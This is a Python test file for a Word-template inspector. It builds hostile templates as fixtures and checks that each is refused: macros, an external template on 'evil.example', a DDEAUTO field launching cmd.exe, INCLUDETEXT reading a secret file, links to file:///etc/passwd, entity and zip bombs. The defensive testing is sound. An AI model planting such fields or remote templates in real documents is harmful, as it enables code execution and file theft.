"""A Word template that is too large, acts by itself or reaches outside is refused before it is opened, in words."""

import io
import zipfile
from collections.abc import Mapping

import pytest
from docx import Document

from audit.analysis import made_up
from audit.errors import Mistaken
from audit.render import word
from audit.render.word import inspecting

HEAD = '<?xml version="1.0"?>'
RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SETTINGS = "word/_rels/settings.xml.rels"


def _repacked(changed: Mapping[str, bytes]) -> bytes:
    """Our template with parts put in or exchanged."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word.default())) as ours, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in {*ours.namelist(), *changed}:
            packed.writestr(name, changed.get(name) or ours.read(name))
    return out.getvalue()


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    mode = f' TargetMode="{mode}"' if mode else ""
    one = f'<Relationship Id="r1" Type="{KIND}/{kind}" Target="{target}"{mode}/>'
    return f"{HEAD}<Relationships {RELATIONS}>{one}</Relationships>".encode()


def _with_field(*runs: str) -> bytes:
    """A footer whose field is split over runs, as Word splits it."""
    instruction = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"{HEAD}<w:ftr {WORD}><w:p>{begin}{instruction}{end}</w:p></w:ftr>".encode()


MACROS = b"macroEnabled"
HOSTILE: Mapping[str, tuple[str, Mapping[str, bytes]]] = {
    "macros": ("template-macros", {"word/vbaProject.bin": b"x"}),
    "a macro document's type": (
        "template-macros",
        {"[Content_Types].xml": f"{HEAD}<Types><Default ContentType='{MACROS.decode()}'/></Types>".encode()},
    ),
    "an embedded object": ("template-macros", {"word/embeddings/oleObject1.bin": b"x"}),
    "another format's chunk": ("template-macros", {SETTINGS: _related("aFChunk", "a.html", "")}),
    "a template elsewhere": (
        "template-outside",
        {SETTINGS: _related("attachedTemplate", "http://evil.example/t.dotm")},
    ),
    "a picture elsewhere": ("template-outside", {SETTINGS: _related("image", "https://evil.example/p.png")}),
    "a share of the network": ("template-outside", {SETTINGS: _related("hyperlink", "file://server/share/x")}),
    "a field that reads a file": ("template-field", {"word/footer9.xml": _with_field('INCLUDETEXT "C:\\secret.txt"')}),
    "such a field in pieces": ("template-field", {"word/footer9.xml": _with_field("INCLUDE", "PICTURE x")}),
    "a field that runs a program": ("template-field", {"word/footer9.xml": _with_field("DDEAUTO c:\\\\cmd.exe")}),
    "entities": (
        "template-entities",
        {"word/settings.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'},
    ),
    "no markup": ("no-template", {"word/settings.xml": b"<w:settings"}),
    "a flood of braces": ("template-braces", {"word/footer9.xml": b"<a>" + b"{{" * 1_500 + b"</a>"}),
    "a bomb": ("template-too-large", {"word/footer9.xml": b"<a>" + b" " * inspecting.READ + b"</a>"}),
    "a bomb of pictures": ("template-too-large", {"word/media/a.png": b"\0" * (inspecting.UNPACKED + 1)}),
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_reaches_outside_or_acts_by_itself_is_refused_with_a_remedy(hostile: str) -> None:
    code, parts = HOSTILE[hostile]
    with pytest.raises(Mistaken) as refused:
        word.tried(_repacked(parts), made_up.report())
    (mistake,) = refused.value.mistakes
    assert mistake.code == code
    assert mistake.remedy.template


def test_links_to_the_web_and_fields_of_pages_may_stay() -> None:
    parts = {
        SETTINGS: _related("hyperlink", "https://example.org/"),
        "word/footer9.xml": _with_field(" PAGE ", " \\* MERGEFORMAT"),
    }
    assert inspecting.inspected(_repacked(parts))


def test_a_link_may_not_lead_to_a_file_by_a_field() -> None:
    for aim, allowed in (("https://example.org", True), ("file:///etc/passwd", False), ("\\\\server\\share", False)):
        template = _repacked({"word/footer9.xml": _with_field(f'HYPERLINK "{aim}"')})
        if allowed:
            assert inspecting.inspected(template)
            continue
        with pytest.raises(Mistaken):
            inspecting.inspected(template)


@pytest.mark.parametrize(
    "line",
    [
        "{{ " + "(" * 3_000,
        "{{ title[facts] }}",
        "{{ facts.name.other }}",
        "{% if title < facts %}x{% endif %}",
        "{%p if title %}",
        "{% for a in summary|length %}{% endfor %}",
        "{%tr for fact in facts %}",
        "{% set a = title %}",
        "{{ title|length|first }}",
    ],
)
def test_a_mistaken_template_is_refused_in_words_whatever_it_breaks(line: str) -> None:
    made = Document()
    made.add_paragraph(line)
    out = io.BytesIO()
    made.save(out)
    with pytest.raises(Mistaken) as refused:
        word.tried(out.getvalue(), made_up.report())
    assert refused.value.mistakes[0].remedy.template


def test_our_own_template_passes_its_trial() -> None:
    word.tried(word.default(), made_up.report())
